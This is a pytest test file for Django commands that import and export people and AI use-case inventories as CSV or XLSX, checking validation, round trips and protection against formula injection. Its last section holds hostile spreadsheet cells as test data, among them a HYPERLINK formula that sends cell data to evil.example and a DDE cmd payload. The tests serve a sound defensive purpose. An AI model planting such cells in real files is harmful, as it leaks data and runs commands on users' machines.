"""The CONTRACT commands import_people, import_use_cases and export_use_cases, as users run them."""

import datetime
import io

import pytest
from django.core.management import CommandError, call_command
from openpyxl import Workbook

from registry.models import BusinessUnit, Decision, Person, Stage, StageTransition, TransitionSource, UseCase
from tests.factories import PersonFactory, UseCaseFactory

HEADER = "external_id,title,summary,capability,business_unit,decision,decision_owner,decision_frequency,cost_of_error,business_owner,technical_owner,stage,stage_since"


def write_csv(tmp_path, lines, name="inventory.csv", encoding="utf-8"):
    path = tmp_path / name
    path.write_text("\n".join(lines) + "\n", encoding=encoding)
    return path


def write_xlsx(tmp_path, rows, name="inventory.xlsx"):
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    path = tmp_path / name
    workbook.save(path)
    return path


def run(command, path, *args):
    out, err = io.StringIO(), io.StringIO()
    call_command(command, str(path), *args, stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


def run_failing(command, path, *args):
    err = io.StringIO()
    with pytest.raises(CommandError) as raised:
        call_command(command, str(path), *args, stdout=io.StringIO(), stderr=err)
    return err.getvalue(), str(raised.value)


def _sorted(rows):
    return sorted(rows, key=lambda values: tuple("" if v is None else str(v) for v in values))


def registry_snapshot():
    return {
        "units": sorted(BusinessUnit.objects.values_list("name", flat=True)),
        "people": _sorted(Person.objects.values_list("email", "name", "active")),
        "decisions": _sorted(Decision.objects.values_list("business_unit__name", "statement", "owner__email", "frequency", "cost_of_error")),
        "use_cases": _sorted(
            UseCase.objects.values_list(
                "external_id", "title", "summary", "capability", "business_unit__name", "decision__statement",
                "business_owner__email", "technical_owner__email", "stage", "stage_entered_on", "version",
            )
        ),
        "transitions": StageTransition.objects.count(),
        "history": UseCase.history.count() + Decision.history.count() + Person.history.count(),
    }


@pytest.fixture
def people(db):
    return {
        "ana": PersonFactory(email="ana@example.com"),
        "bo": PersonFactory(email="bo@example.com"),
    }


GOOD_ROWS = [
    HEADER,
    "FIN-1,Invoice extraction,Reads supplier invoices,document data extraction,Finance,Which invoices are paid early this week?,ana@example.com,weekly,120,ana@example.com,bo@example.com,pilot,2026-03-01",
    "FIN-2,Cash forecast,,cash forecasting,Finance,How much cash do we hold next month?,ana@example.com,monthly,5000.50,,bo@example.com,production,2025-12-01",
    "CS-1,FAQ assistant,,chatbot,Customer Service,Which questions are answered without an agent?,,,,bo@example.com,,,",
]


# People ------------------------------------------------------------------------------------


def test_import_people_upserts_by_email_case_insensitively_and_twice_changes_nothing(db, tmp_path):
    path = write_csv(tmp_path, [
        "email,name,business_unit,active",
        "Ana@Example.COM,Ana Ruiz,Finance,true",
        "bo@example.com,Bo Chen,Customer Service,1",
        "cy@example.com,Cy Old,Finance,no",
        "di@example.com,,,",
    ])

    out, _ = run("import_people", path)
    first = registry_snapshot()
    out_again, _ = run("import_people", path)

    assert "4 people were created" in out
    assert "0 people were created, 0 updated, 4 unchanged" in out_again
    assert registry_snapshot() == first
    assert Person.objects.get(email="ana@example.com").business_unit.name == "Finance"
    assert Person.objects.get(email="cy@example.com").active is False
    assert Person.objects.get(email="di@example.com").active is True


def test_import_people_marks_leavers_inactive_and_keeps_their_history(db, tmp_path):
    PersonFactory(email="cy@example.com", name="Cy Old", active=True)
    path = write_csv(tmp_path, ["email,active", "CY@example.com,false"])

    out, _ = run("import_people", path)

    cy = Person.objects.get(email="cy@example.com")
    assert cy.active is False and cy.name == "Cy Old"
    assert "1 updated" in out
    assert cy.history.count() == 2


@pytest.mark.parametrize(
    "lines, expected",
    [
        (["email,active", "not-an-email,true"], "row 1, column email: 'not-an-email' is not an email address"),
        (["email,active", "a@example.com,maybe"], "row 1, column active: 'maybe' is not one of: true, false, 1, 0, yes, no"),
        (["email", "a@example.com", "A@example.com"], "row 2, column email: a@example.com already appears in row 1"),
        (["name,active", "Ana,true"], "missing required column: email"),
        (["email,name", ","], "has a header row but no data rows"),
    ],
)
def test_import_people_rejects_bad_rows_and_writes_nothing(db, tmp_path, lines, expected):
    path = write_csv(tmp_path, lines)

    err, message = run_failing("import_people", path)

    assert expected in err
    assert "nothing was imported" in message
    assert not Person.objects.exists() and not BusinessUnit.objects.exists()


# Use cases: good files ----------------------------------------------------------------------


def test_import_use_cases_creates_decisions_units_stages_and_import_transitions(people, tmp_path):
    out, _ = run("import_use_cases", write_csv(tmp_path, GOOD_ROWS))

    assert "3 use cases were created" in out
    invoice = UseCase.objects.get(external_id="FIN-1")
    assert invoice.stage == Stage.PILOT and invoice.stage_entered_on == datetime.date(2026, 3, 1)
    assert invoice.decision.owner == people["ana"] and invoice.decision.frequency == "weekly"
    assert invoice.business_unit.name == "Finance" and invoice.decision.business_unit == invoice.business_unit
    faq = UseCase.objects.get(external_id="CS-1")
    assert faq.stage == Stage.PROPOSED and faq.technical_owner is None and faq.decision.owner is None
    transition = invoice.transitions.get()
    assert (transition.from_stage, transition.to_stage, transition.source) == ("", Stage.PILOT, TransitionSource.IMPORT)
    assert "imported from inventory.csv" in transition.reason
    assert invoice.history.get().history_change_reason == "imported from inventory.csv"


def test_import_starts_the_ownership_clock_on_the_import_day(people, tmp_path):
    run("import_use_cases", write_csv(tmp_path, GOOD_ROWS))

    invoice = UseCase.objects.get(external_id="FIN-1")
    today = datetime.date.today()
    assert invoice.business_owner_confirmed_on == today
    assert invoice.technical_owner_confirmed_on == today
    assert invoice.decision.owner_confirmed_on == today


def test_reimporting_the_same_file_changes_nothing(people, tmp_path):
    path = write_csv(tmp_path, GOOD_ROWS)
    run("import_use_cases", path)
    before = registry_snapshot()

    out, _ = run("import_use_cases", path)

    assert "0 use cases were created, 0 updated, 3 unchanged" in out
    assert registry_snapshot() == before


def test_reimport_updates_by_external_id_and_records_the_stage_move(people, tmp_path):
    run("import_use_cases", write_csv(tmp_path, GOOD_ROWS))
    changed = list(GOOD_ROWS)
    changed[1] = changed[1].replace("Invoice extraction", "Invoice data capture").replace("pilot,2026-03-01", "production,2026-10-01")

    out, _ = run("import_use_cases", write_csv(tmp_path, changed))

    assert "0 use cases were created, 1 updated, 2 unchanged" in out
    invoice = UseCase.objects.get(external_id="FIN-1")
    assert invoice.title == "Invoice data capture"
    assert invoice.stage == Stage.PRODUCTION and invoice.version == 2
    move = invoice.transitions.first()
    assert (move.from_stage, move.to_stage, move.source) == (Stage.PILOT, Stage.PRODUCTION, TransitionSource.IMPORT)
    assert UseCase.objects.count() == 3


def test_a_stage_move_dated_before_the_current_stage_is_refused(people, tmp_path):
    run("import_use_cases", write_csv(tmp_path, GOOD_ROWS))
    before = registry_snapshot()
    backdated = [HEADER, GOOD_ROWS[1].replace("pilot,2026-03-01", "production,2026-02-01")]

    err, _ = run_failing("import_use_cases", write_csv(tmp_path, backdated))

    assert "row 1, column stage_since: 2026-02-01 is before 2026-03-01, when 'FIN-1' entered pilot" in err
    assert registry_snapshot() == before


def test_blank_owner_cell_clears_the_owner_but_absent_column_leaves_it(people, tmp_path):
    run("import_use_cases", write_csv(tmp_path, GOOD_ROWS))
    without_owner_columns = [
        "external_id,title,business_unit,decision",
        "FIN-1,Invoice extraction,Finance,Which invoices are paid early this week?",
    ]
    run("import_use_cases", write_csv(tmp_path, without_owner_columns))
    assert UseCase.objects.get(external_id="FIN-1").business_owner == people["ana"]

    blank_owner = GOOD_ROWS[:2]
    blank_owner[1] = blank_owner[1].replace(",ana@example.com,bo@example.com,", ",,bo@example.com,")
    run("import_use_cases", write_csv(tmp_path, blank_owner))

    assert UseCase.objects.get(external_id="FIN-1").business_owner is None


def test_utf8_byte_order_mark_is_accepted(people, tmp_path):
    path = write_csv(tmp_path, GOOD_ROWS, encoding="utf-8-sig")

    run("import_use_cases", path)

    assert UseCase.objects.filter(external_id="FIN-1").exists()


def test_xlsx_import_matches_csv_import(people, tmp_path):
    rows = [line.split(",") for line in GOOD_ROWS]
    rows[1][8] = 120  # spreadsheets hold numbers and dates, not text
    rows[1][12] = datetime.datetime(2026, 3, 1)

    out, _ = run("import_use_cases", write_xlsx(tmp_path, rows))

    assert "3 use cases were created" in out
    invoice = UseCase.objects.get(external_id="FIN-1")
    assert invoice.stage_entered_on == datetime.date(2026, 3, 1)
    assert invoice.decision.cost_of_error == 120


def test_dry_run_reports_without_writing(people, tmp_path):
    before = registry_snapshot()

    out, _ = run("import_use_cases", write_csv(tmp_path, GOOD_ROWS), "--dry-run")

    assert "3 use cases would be created" in out
    assert registry_snapshot() == before
    assert not BusinessUnit.objects.filter(name="Customer Service").exists()


def test_progress_bar_shown_on_large_files(people, tmp_path):
    lines = [HEADER] + [
        f"X-{n},Use case {n},,,Finance,Which invoices are paid early this week?,,,,,,," for n in range(400)
    ]

    _, err = run("import_use_cases", write_csv(tmp_path, lines))

    assert "checking rows" in err and "400/400" in err
    assert UseCase.objects.count() == 400


# Use cases: garbage ----------------------------------------------------------------------------


def row(**overrides):
    values = dict(zip(HEADER.split(","), GOOD_ROWS[1].split(",")))
    values.update(overrides)
    return ",".join(values[c] for c in HEADER.split(","))


@pytest.mark.parametrize(
    "data_rows, expected",
    [
        ([row(stage="launched")], "row 1, column stage: 'launched' is not one of: proposed, validating, pilot, production, retired"),
        ([row(decision_frequency="sometimes")], "row 1, column decision_frequency: 'sometimes' is not one of"),
        ([row(stage_since="01/03/2026")], "row 1, column stage_since: '01/03/2026' is not a date in the form YYYY-MM-DD"),
        ([row(stage_since="2026-02-30")], "row 1, column stage_since: '2026-02-30' is not a date"),
        ([row(stage_since="2999-01-01")], "row 1, column stage_since: 2999-01-01 is in the future"),
        ([row(cost_of_error="-5")], "row 1, column cost_of_error: must not be negative (got -5)"),
        ([row(cost_of_error="lots")], "row 1, column cost_of_error: 'lots' is not a number"),
        ([row(cost_of_error="NaN")], "row 1, column cost_of_error: 'NaN' is not a number"),
        ([row(business_owner="ghost@example.com")], "row 1, column business_owner: no person with email 'ghost@example.com' in the directory"),
        ([row(decision_owner="ghost@example.com")], "row 1, column decision_owner: no person with email 'ghost@example.com'"),
        ([row(), row(title="Other")], "row 2, column external_id: 'FIN-1' already appears in row 1"),
        ([row(external_id="")], "row 1, column external_id: is required"),
        ([row(title="x" * 100_000)], "row 1, column title: is 100,000 characters long; at most 200 are allowed"),
        ([row(summary="x" * 100_000)], "row 1, column summary: is 100,000 characters long; at most 5,000 are allowed"),
        ([row(), row(external_id="FIN-9", decision_frequency="daily")], "row 2, column decision_frequency: differs from row 1"),
    ],
)
def test_bad_rows_are_named_and_nothing_is_written(people, tmp_path, data_rows, expected):
    path = write_csv(tmp_path, [HEADER, *data_rows])
    before = registry_snapshot()

    err, message = run_failing("import_use_cases", path)

    assert expected in err
    assert "nothing was imported" in message
    assert registry_snapshot() == before


def test_every_problem_of_every_row_is_reported_at_once(people, tmp_path):
    path = write_csv(tmp_path, [HEADER, row(stage="launched", cost_of_error="-1"), row(external_id="FIN-2", stage_since="yesterday")])

    err, message = run_failing("import_use_cases", path)

    assert err.splitlines() == [
        "row 1, column cost_of_error: must not be negative (got -1)",
        "row 1, column stage: 'launched' is not one of: proposed, validating, pilot, production, retired, unreported",
        "row 2, column stage_since: 'yesterday' is not a date in the form YYYY-MM-DD",
    ]
    assert message.startswith("3 problems found")


def test_a_bad_row_after_good_ones_leaves_an_existing_registry_untouched(people, tmp_path):
    run("import_use_cases", write_csv(tmp_path, GOOD_ROWS))
    before = registry_snapshot()
    renamed = GOOD_ROWS[1].replace("Invoice extraction", "Renamed")

    run_failing("import_use_cases", write_csv(tmp_path, [HEADER, renamed, row(external_id="NEW-1", stage="bogus")]))

    assert registry_snapshot() == before


@pytest.mark.parametrize(
    "content, expected",
    [
        (b"", "the file is empty"),
        (b"\n\n  \n", "the file is empty"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00", "this is not a CSV file (it contains binary data)"),
        ("external_id,title\n".encode("utf-16"), "this is not a CSV file"),
        (b"external_id,title\nA,\xff\xfe broken\n", "the file is not UTF-8 text"),
        (b"title,summary\nA,B\n", "missing required columns: external_id, business_unit, decision"),
        (HEADER.encode() + b"\n", "has a header row but no data rows"),
        (b'external_id,title,business_unit,decision\n"unclosed,T,U,D\n', "the CSV cannot be parsed"),
    ],
)
def test_unreadable_csv_files_get_a_clear_message(db, tmp_path, content, expected):
    path = tmp_path / "inventory.csv"
    path.write_bytes(content)

    err, _ = run_failing("import_use_cases", path)

    assert expected in err
    assert not UseCase.objects.exists()


def test_a_file_that_is_not_a_workbook_is_refused(db, tmp_path):
    path = tmp_path / "inventory.xlsx"
    path.write_bytes(b"external_id,title\nA,B\n")

    err, _ = run_failing("import_use_cases", path)

    assert "this is not a readable XLSX workbook" in err


def test_bad_xlsx_rows_are_named(people, tmp_path):
    rows = [HEADER.split(","), row(cost_of_error="-3").split(",")]

    err, _ = run_failing("import_use_cases", write_xlsx(tmp_path, rows))

    assert "row 1, column cost_of_error: must not be negative" in err
    assert not UseCase.objects.exists()


def test_missing_file_is_reported(db, tmp_path):
    err, _ = run_failing("import_use_cases", tmp_path / "nowhere.csv")

    assert "no such file" in err


# Export -------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["export.csv", "export.xlsx"])
def test_export_then_import_gives_the_same_registry(people, tmp_path, name):
    run("import_use_cases", write_csv(tmp_path, GOOD_ROWS))
    UseCaseFactory(external_id=None, title="Registered in the product, no external id")
    before = registry_snapshot()
    exported = tmp_path / name

    out, _ = run("export_use_cases", exported)
    out_again, _ = run("import_use_cases", exported)

    assert "4 use cases written" in out
    assert "0 use cases were created, 0 updated, 4 unchanged" in out_again
    assert registry_snapshot() == before


def test_export_to_an_unwritable_place_fails_clearly(db, tmp_path):
    with pytest.raises(CommandError, match="cannot write"):
        call_command("export_use_cases", str(tmp_path / "missing-dir" / "out.csv"), stdout=io.StringIO())


# Cells a spreadsheet would run (formula injection) -------------------------------------------------

# OWASP's CSV injection guidance: a cell starting with = + - @ TAB or CR is run as a formula by
# spreadsheets. The export writes such a cell (and one already starting with ') with a leading
# ', and the import takes exactly that one ' off again.
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
RISKY = {
    "FIN-1": {"title": FORMULA_TITLE, "summary": "+1+1", "capability": "-2+3"},
    "FIN-2": {"title": "@SUM(1+1)*cmd|' /C calc'!A0", "summary": "'quoted already", "capability": "''twice"},
    "CS-1": {"title": "'=not a formula, as typed", "summary": "-", "capability": "@"},
}


def _make_risky():
    for key, values in RISKY.items():
        UseCase.objects.filter(external_id=key).update(**values)
    Decision.objects.filter(statement__startswith="How much cash").update(statement="=1+1 cash next month?")
    BusinessUnit.objects.filter(name="Customer Service").update(name="@Customer Service")


def _exported_cells(path):
    if path.suffix == ".xlsx":
        from openpyxl import load_workbook

        workbook = load_workbook(path)
        cells = [cell for row in workbook.worksheets[0].iter_rows() for cell in row]
        assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}  # text, never a formula
        return [cell.value or "" for cell in cells]
    import csv

    return [cell for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")) for cell in row]


@pytest.mark.parametrize("name", ["export.csv", "export.xlsx"])
def test_an_export_holds_no_live_formula_and_imports_back_unchanged(people, tmp_path, name):
    run("import_use_cases", write_csv(tmp_path, GOOD_ROWS))
    _make_risky()
    before = registry_snapshot()
    exported = tmp_path / name

    run("export_use_cases", exported)
    out, _ = run("import_use_cases", exported)

    cells = _exported_cells(exported)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    for value in (FORMULA_TITLE, "+1+1", "-2+3", "'quoted already", "''twice", "'=not a formula, as typed", "-", "@",
                  "=1+1 cash next month?", "@Customer Service"):
        assert "'" + value in cells, value
    assert "0 use cases were created, 0 updated, 3 unchanged" in out
    assert registry_snapshot() == before
    assert UseCase.objects.get(external_id="FIN-1").title == FORMULA_TITLE


def test_a_hand_made_file_with_excels_quote_prefix_imports_the_text_after_it(people, tmp_path):
    lines = [HEADER,
             "FIN-1,'=1+1,'Twas a summary,'-,Finance,Which invoices are paid early this week?,,,,,,,",
             "FIN-2,''quoted,'@x,-,Finance,How much cash do we hold next month?,,,,,,,"]

    run("import_use_cases", write_csv(tmp_path, lines))

    first, second = UseCase.objects.get(external_id="FIN-1"), UseCase.objects.get(external_id="FIN-2")
    assert (first.title, first.summary, first.capability) == ("=1+1", "'Twas a summary", "-")
    assert (second.title, second.summary, second.capability) == ("'quoted", "@x", "-")
